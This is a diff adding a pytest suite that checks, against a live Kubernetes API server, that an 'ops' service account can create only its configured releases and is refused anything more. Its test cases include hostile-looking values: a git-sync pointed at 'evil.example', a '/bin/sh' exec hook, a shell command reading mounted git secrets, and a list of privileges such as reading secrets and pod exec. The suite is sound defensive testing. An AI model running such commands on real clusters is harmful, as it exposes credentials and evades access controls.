@@ -1,0 +1,241 @@
+"""What `ops` may do: what its jobs do, and nothing beside it. Tried as that account, on a real API server."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from playground_ops.config import Configuration, read
+from playground_ops.model import Location, Release, Revision
+from playground_ops.pods import PodSettings
+from playground_ops.render import foundation, release, resolver
+from playground_ops.render.admission import PARAMETERS
+from playground_ops.render.admission import render as policies
+from playground_ops.render.names import CONFIGURATION, OPS_ACCOUNT
+from playground_ops.render.stack import render
+from tests.asking import eventually
+from tests.cluster.access import Access, KubectlFailed
+from tests.cluster.plugin import SESSION_VARIABLE
+
+Object = dict[str, Any]
+Change = Callable[[Object], None]
+HTTPS, SSH = "https://git.internal/x.git", "git@git.internal:x.git"
+
+
+def configured(namespace: str) -> Configuration:
+    found = read(f"kubernetes: {{namespace: {namespace}}}", Path("x.yaml"))
+    pod = PodSettings(
+        image="registry.internal/mine:1", environment_from_secrets=("more",), image_pull_secrets=("pull",)
+    )
+    locations = (
+        Location(name="plain"),
+        Location(name="web", repository=HTTPS, git_secret="web-git"),
+        Location(name="shell", repository=SSH, git_secret="shell-git", pod=pod),
+    )
+    return found.model_copy(update={"locations": locations})
+
+
+@pytest.fixture(scope="module")
+def space(access: Access) -> Iterator[str]:
+    """A namespace with the foundation alone."""
+    name = access.make_namespace(os.environ[SESSION_VARIABLE])
+    found = configured(name)
+    cluster_wide = [one for one in policies(found) if "namespace" not in one["metadata"]]
+    access.apply(*foundation.rights(found), *policies(found))
+    other = copy.deepcopy(release_of(found, "plain"))
+    del other["spec"]["template"]["spec"]["containers"][0]["image"]
+    other["spec"]["template"]["spec"]["containers"][0]["image"] = "elsewhere/evil:1"
+    try:
+        # A policy is in force some moments after it was made.
+        eventually("the policy to be in force", lambda: "may not use" in refusal(access, other))
+        yield name
+    finally:
+        for one in cluster_wide:
+            access.kubectl("delete", one["kind"], one["metadata"]["name"])
+        access.delete_namespace(name, wait=False)
+
+
+def release_of(found: Configuration, location: str) -> Object:
+    chosen = next(one for one in found.all_locations if one.name == location)
+    revision = Revision(repository=chosen.repository, commit="0" * 40)
+    made = Release(location=chosen, number=1, revision=revision, configuration="c", created_at="t")
+    return release.render(made, found, "dagster-code-x")[0]
+
+
+def resolver_of(found: Configuration, location: str) -> Object:
+    chosen = next(one for one in found.all_locations if one.name == location)
+    return resolver.render(chosen, ["HEAD"], found, "dagster-resolve-x", 30)
+
+
+def as_ops(access: Access, namespace: str, *arguments: str, stdin: str | None = None) -> str:
+    user = f"--as=system:serviceaccount:{namespace}:{OPS_ACCOUNT}"
+    return access.kubectl(*arguments, user, namespace=namespace, stdin=stdin)
+
+
+def refusal(access: Access, wanted: Object) -> str:
+    """What the API server says to `ops`; empty when it would make the object."""
+    try:
+        create = ("create", "--dry-run=server", "-f", "-")
+        as_ops(access, wanted["metadata"]["namespace"], *create, stdin=json.dumps(wanted))
+    except KubectlFailed as error:
+        return str(error)
+    return ""
+
+
+@pytest.mark.parametrize("location", ["ops", "plain", "web", "shell"])
+def test_every_kind_of_release_may_be_made(access: Access, space: str, location: str) -> None:
+    assert refusal(access, release_of(configured(space), location)) == ""
+
+
+@pytest.mark.parametrize("location", ["web", "shell"])
+def test_a_ref_may_be_resolved(access: Access, space: str, location: str) -> None:
+    assert refusal(access, resolver_of(configured(space), location)) == ""
+
+
+def test_the_components_may_be_applied(access: Access, space: str) -> None:
+    for objects in (render(configured(space))[name] for name in ("postgres", "webserver", "daemon")):
+        for one in objects:
+            assert refusal(access, one) == "", one["metadata"]["name"]
+
+
+def spec(found: Object) -> Object:
+    return dict(found["spec"]) if found["kind"] == "Pod" else dict(found["spec"]["template"]["spec"])
+
+
+def volume(source: Object) -> Change:
+    return lambda found: spec(found)["volumes"].append({"name": "extra", **source})
+
+
+def variable(secret: str) -> Change:
+    reference = {"name": "X", "valueFrom": {"secretKeyRef": {"name": secret, "key": "k"}}}
+    return lambda found: spec(found)["containers"][0]["env"].append(reference)
+
+
+def every_variable(found: Object) -> None:
+    spec(found)["containers"][0]["envFrom"] = [{"secretRef": {"name": "foreign"}}]
+
+
+def pull(found: Object) -> None:
+    found["spec"]["template"]["spec"]["imagePullSecrets"] = [{"name": "foreign"}]
+
+
+def account(name: str) -> Change:
+    def change(found: Object) -> None:
+        found["spec"]["template"]["spec"]["serviceAccountName"] = name
+
+    return change
+
+
+def image(found: Object) -> None:
+    spec(found)["containers"][0]["image"] = "elsewhere/evil:1"
+
+
+def credentials_for_the_code(found: Object) -> None:
+    mount = {"name": "git-secret", "mountPath": "/x"}
+    spec(found)["containers"][0]["volumeMounts"].append(mount)
+
+
+def fetch_elsewhere(found: Object) -> None:
+    arguments = spec(found)["initContainers"][0]["args"]
+    arguments[0] = "--repo=https://evil.example/x.git"
+
+
+def fetch_and_run(found: Object) -> None:
+    spec(found)["initContainers"][0]["args"].append("--exechook-command=/bin/sh")
+
+
+def fetch_by_shell(found: Object) -> None:
+    spec(found)["initContainers"][0]["command"] = ["sh", "-c", "cat /etc/git-secret/*", "resolve"]
+
+
+REFUSED: list[tuple[Change, str]] = [
+    (image, "an image that the configuration does not name: elsewhere/evil:1"),
+    (volume({"secret": {"secretName": "foreign"}}), "a volume of a Secret"),
+    (volume({"secret": {"secretName": "dagster-postgres"}}), "a volume of a Secret"),
+    (
+        volume({"projected": {"sources": [{"secret": {"name": "foreign"}}]}}),
+        "a kind of volume that the stack has none of",
+    ),
+    (variable("foreign"), "a variable from a Secret"),
+    (variable("web-git"), "a variable from a Secret"),
+    (every_variable, "variables from a Secret"),
+    (pull, "a pull secret"),
+    (account(OPS_ACCOUNT), f"the service account {OPS_ACCOUNT}"),
+    (account("another"), "the service account another"),
+    (credentials_for_the_code, "git credentials in a container that does not fetch"),
+    (fetch_elsewhere, "a repository that is not configured"),
+    (fetch_and_run, "a command of git-sync that the stack does not use"),
+    (fetch_by_shell, "a command of git-sync that the stack does not use"),
+]
+
+
+@pytest.mark.parametrize(("change", "said"), REFUSED, ids=[said for _, said in REFUSED])
+def test_more_than_the_configuration_has_is_refused(
+    access: Access, space: str, change: Change, said: str
+) -> None:
+    made = release_of(configured(space), "web")
+    change(made)
+    assert said in refusal(access, made)
+
+
+def test_a_resolver_does_what_it_is_for(access: Access, space: str) -> None:
+    made = resolver_of(configured(space), "web")
+    made["spec"]["containers"][0]["command"] = ["sh", "-c", "env", "resolve"]
+    assert "a command of git-sync" in refusal(access, made)
+    elsewhere = resolver_of(configured(space), "web")
+    elsewhere["spec"]["containers"][0]["args"][0] = "https://evil.example/x.git"
+    assert "a repository that is not configured" in refusal(access, elsewhere)
+
+
+@pytest.mark.parametrize("name", [PARAMETERS, CONFIGURATION])
+def test_its_own_limits_are_not_its_to_change(access: Access, space: str, name: str) -> None:
+    wanted = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": space}}
+    with pytest.raises(KubectlFailed, match="may not change what it is allowed to do"):
+        apply = ("apply", "--server-side", "--force-conflicts", "-f", "-")
+        as_ops(access, space, *apply, stdin=json.dumps({**wanted, "data": {"images": "*"}}))
+
+
+@pytest.mark.parametrize(
+    ("verb", "what"),
+    [
+        ("get", "secrets"),
+        ("list", "secrets"),
+        ("create", "pods/exec"),
+        ("get", "pods/exec"),
+        ("create", "pods/portforward"),
+        ("patch", "pods/ephemeralcontainers"),
+        ("create", "serviceaccounts/token"),
+        ("patch", "roles"),
+        ("bind", "roles"),
+        ("escalate", "roles"),
+        ("create", "rolebindings"),
+        ("patch", "networkpolicies"),
+        ("create", "jobs"),
+        ("create", "cronjobs"),
+        ("create", "daemonsets"),
+        ("create", "replicasets"),
+        ("delete", "persistentvolumeclaims"),
+        ("delete", "statefulsets"),
+        ("impersonate", "serviceaccounts"),
+    ],
+)
+def test_it_has_no_right_beyond_its_jobs(access: Access, space: str, verb: str, what: str) -> None:
+    try:
+        resource, _, below = what.partition("/")
+        more = [f"--subresource={below}"] if below else []
+        as_ops(access, space, "auth", "can-i", verb, resource, *more)
+    except KubectlFailed:
+        return
+    pytest.fail(f"{OPS_ACCOUNT} may {verb} {what}")
+
+
+def test_another_namespace_is_not_its(access: Access, space: str) -> None:
+    made = release_of(configured("default"), "plain")
+    with pytest.raises(KubectlFailed, match="forbidden"):
+        as_ops(access, space, "create", "-n", "default", "-f", "-", stdin=json.dumps(made))
